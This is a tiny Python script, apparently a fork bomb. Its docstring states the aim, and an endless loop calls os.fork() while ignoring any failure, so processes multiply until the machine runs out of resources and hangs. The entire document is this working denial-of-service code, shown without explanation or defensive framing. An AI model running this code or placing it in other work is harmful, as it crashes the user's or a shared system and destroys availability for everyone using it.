"""Every process forks for ever; whatever a fork says, it tries again."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
